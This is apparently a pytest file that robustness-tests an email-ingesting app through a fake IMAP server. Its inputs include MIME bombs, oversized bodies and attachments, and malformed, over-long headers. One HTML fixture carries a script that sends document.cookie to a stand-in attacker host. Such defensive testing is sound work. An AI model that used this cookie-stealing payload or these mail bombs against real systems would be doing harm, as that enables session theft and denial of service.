"""Hostile mail through the real Dovecot and the real app (SQLite, and PostgreSQL when given): MIME
bombs, invalid charsets and bytes, a 10 MB body, a 20 MB attachment, scripts in HTML, over-long and
out-of-range headers. Every one is carded with safe fields or skipped, the normal mail after them is
carded, the app runs on and /healthz says ok (invariant 9, the poison tests extended to email)."""

from __future__ import annotations

import asyncio
import base64
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.store.ingest_tables import CursorRow
from tests.conftest import database_params
from tests.core.poison import NORMAL_TEXT, Console, check_survived, marked, running_app, wait_for_rows
from tests.fakes.dovecot import Dovecot
from tests.fakes.mailservers import ADDRESS

from .conftest import mail


def deep(levels: int) -> bytes:
    head = b"".join(
        b'Content-Type: multipart/mixed; boundary="d%d"\r\n\r\n--d%d\r\n' % (n, n) for n in range(levels)
    )
    tail = b"".join(b"\r\n--d%d--\r\n" % n for n in reversed(range(levels)))
    return (
        b"From: bomb@example.com\r\nSubject: deep\r\nMessage-ID: <deep@example.com>\r\n"
        + head
        + b"Content-Type: text/plain\r\n\r\nat the bottom"
        + tail
    )


def wide(parts: int) -> bytes:
    body = b"".join(b"--W\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % n for n in range(parts))
    return (
        b"From: wide@example.com\r\nSubject: wide\r\nMessage-ID: <wide@example.com>\r\n"
        b'Content-Type: multipart/mixed; boundary="W"\r\n\r\n' + body + b"--W--\r\n"
    )


def big_attachment(megabytes: int) -> bytes:
    data = base64.encodebytes(b"\x00\x01binary" * (megabytes * 1024 * 1024 // 8))
    return (
        b"From: Pat <pat@example.com>\r\nSubject: my thesis\r\nMessage-ID: <big@example.com>\r\n"
        b'Content-Type: multipart/mixed; boundary="A"\r\n\r\n'
        b"--A\r\nContent-Type: text/plain\r\n\r\nPlease print the attached file.\r\n"
        b"--A\r\nContent-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="thesis.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + data + b"--A--\r\n"
    )


def raw_headers(**headers: bytes) -> bytes:
    lines = b"".join(
        name.replace("_", "-").encode() + b": " + value + b"\r\n" for name, value in headers.items()
    )
    return lines + b"\r\nbody of a message with odd headers \xff\xfe\x00 end\r\n"


def hostile() -> list[bytes]:
    carded = [
        deep(3000),
        wide(10_000),
        big_attachment(20),
        mail("x" * (10 * 1024 * 1024), msgid="<ten@example.com>", subject="ten megabytes"),
        mail(
            "ignored",
            msgid="<html@example.com>",
            subject="scripts",
            html="<script>fetch('https://evil.example/'+document.cookie)</script><p>visible</p>",
        ).replace(b"Content-Type: text/plain", b"Content-Type: text/x-ignored", 1),
        raw_headers(
            From=b"\xff\xfe Eve " + b"E" * 600 + b" <eve@example.com>",
            Subject=b"=?x-bogus?b?////?= \xe2\x80\xae\xe2\x94\x80\xe2\x94\x80 #99 \xc2\xb7 Director",
            Message_ID=b"<" + b"m" * 600 + b"@example.com>",
            Date=b"Fri, 31 Dec 9999 23:59:59 -1200",
            References=b"<a@b> " * 5000,
            Content_Type=b"text/plain; charset=utf-8",
        ),
    ]
    return carded


@pytest.mark.slow
@pytest.mark.parametrize("kind", database_params())
async def test_email_poison(kind: str, tmp_path: Path, dovecot: Dovecot, folder: str) -> None:
    console = Console()
    values = {
        "EMAIL_ADDRESS": ADDRESS,
        "EMAIL_IMAP_URL": dovecot.url(folder, tls=True),  # IMAPS this time
        "EMAIL_CA_FILE": dovecot.tls.cert,
        "EMAIL_IDLE_SECONDS": 30,
    }
    async with running_app(kind, tmp_path, console, **values) as app:
        for _ in range(2000):
            async with app.db.transaction() as session:
                if (await session.execute(select(CursorRow))).first() is not None:
                    break
            await asyncio.sleep(0.01)
        batch = hostile()
        for raw in batch:
            dovecot.append(raw, folder)
        dovecot.append(mail(NORMAL_TEXT, msgid="<normal@example.com>"), folder)
        rows = await wait_for_rows(app, "email", len(batch) + 1, within=120)
        await check_survived(app, console, rows)
    by_id = {row.external_id: row for row in rows}
    assert "too many parts" in by_id["deep@example.com"].note
    assert "too many parts" in by_id["wide@example.com"].note
    thesis = by_id["big@example.com"]
    assert "thesis.bin (2" in thesis.note and "binary" not in thesis.text + thesis.full_text
    assert len(by_id["ten@example.com"].text) <= 40_000
    html = by_id["html@example.com"]
    assert "visible" in html.text and "fetch" not in html.text and "evil" not in html.text
    odd = [row for row in rows if row.external_id.startswith("sha256:")]  # a 600-character id is no id
    assert len(odd) == 1 and odd[0].author_id == "eve@example.com"
    assert "\x00" not in odd[0].text and "#99" in odd[0].text
    assert marked(rows) == 1  # the year 9999 is replaced by the arrival time, and the card says so
